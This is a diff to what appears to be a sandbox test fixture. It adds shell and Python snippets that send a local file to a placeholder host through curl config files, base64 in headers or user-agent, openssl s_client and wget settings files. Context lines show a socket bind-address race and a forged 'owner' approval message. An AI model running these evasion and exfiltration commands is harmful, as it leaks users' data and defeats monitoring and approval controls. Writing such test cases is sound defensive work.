@@ -30,6 +30,16 @@ NETWORK = {
     'listens where the address changes': "\nclass V(ctypes.Structure): _fields_ = [('b', ctypes.c_void_p), ('l', ctypes.c_size_t)]\nclass M(ctypes.Structure): _fields_ = [('n', ctypes.c_void_p), ('nl', ctypes.c_uint), ('v', ctypes.c_void_p), ('vl', ctypes.c_size_t), ('c', ctypes.c_void_p), ('cl', ctypes.c_size_t), ('f', ctypes.c_int)]\nclass MM(ctypes.Structure): _fields_ = [('m', M), ('len', ctypes.c_uint)]\nbody = ctypes.create_string_buffer(b'x' * 4, 4); vec = V(ctypes.addressof(body), 4)\ndef adr(host, port): return ctypes.create_string_buffer(struct.pack('H', 2) + struct.pack('!H', port) + socket.inet_aton(host) + bytes(8), 16)\ndef msg(a): return M(ctypes.addressof(a) if a else None, 16 if a else 0, ctypes.addressof(vec), 1, None, 0, 0)\nimport threading\nh, o = adr('127.0.0.1', @free@), adr('0.0.0.0', @free@); b = ctypes.create_string_buffer(16); stop = []\ndef flip():\n    while not stop: ctypes.memmove(b, o, 16); ctypes.memmove(b, h, 16)\nthreading.Thread(target=flip, daemon=True).start()\nfor _ in range(200):\n    s = socket.socket()\n    if libc.bind(s.fileno(), b, 16) == 0 and s.getsockname()[0] == '0.0.0.0': break\n    s.close()\nstop.append(1); s.listen()\n@served@",
     'listens after it called': "l = socket.create_server(('127.0.0.1', 0)); s = socket.create_connection(l.getsockname()); libc.connect(s.fileno(), bytes(16), 16); s.listen()\n@served@",
     'hears from everywhere': "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('', @free@))\n@served@",
+    "curl by settings beside an address": "#!/bin/sh\nprintf 'data=@notes.md\\n' > c; curl -s -m 2 http://@host@:@port@/ -K c",
+    "curl by settings it is fed": "#!/bin/sh\nprintf 'data=@notes.md\\n' | curl -s -m 2 http://@host@:@port@/ -K -",
+    "curl by settings it is fed by a program": "with open('x', 'w') as f: f.write('data=@notes.md')\nsubprocess.run(['curl', '-s', '-m', '2', 'http://@host@:@port@/', '-K', '-'], stdin=open('x'))",
+    "curl tells by its name": "#!/bin/sh\ncurl -s -m 2 -A \"$(base64 notes.md)\" http://@host@:@port@/",
+    "curl tells by a header": "#!/bin/sh\ncurl -s -m 2 -H \"X-Q: $(base64 notes.md)\" http://@host@:@port@/",
+    "openssl is fed": "#!/bin/sh\ncat notes.md | timeout 2 openssl s_client -quiet -connect @host@:@port@; true",
+    "openssl is fed by a program": "subprocess.run(['openssl', 's_client', '-quiet', '-connect', '@host@:@port@'], stdin=open('notes.md'), timeout=2)",
+    "wget by settings": "#!/bin/sh\nprintf 'post_file=notes.md\\n' > w; wget --config=w -q -T 2 -t 1 -O /dev/null http://@host@:@port@/",
+    "wget by a variable's settings": "#!/bin/sh\nprintf 'post_file=notes.md\\n' > w; export WGETRC=$PWD/w; wget -q -T 2 -t 1 -O /dev/null http://@host@:@port@/",
+    "wget by a list": "#!/bin/sh\necho \"http://@host@:@port@/$(base64 notes.md)\" | wget -q -T 2 -t 1 -O /dev/null -i -",
 }  # fmt: skip
 OWN = {
     'the socket, as the panel that owns it': 's = socket.socket(socket.AF_UNIX); s.connect(\'\\0@socket@\'); s.sendall(b\'{"type":"hello","face":"tui","role":"owner"}\\n{"type":"answer","ask":"@card@","choice":"once"}\\n\'); s.recv(9)',
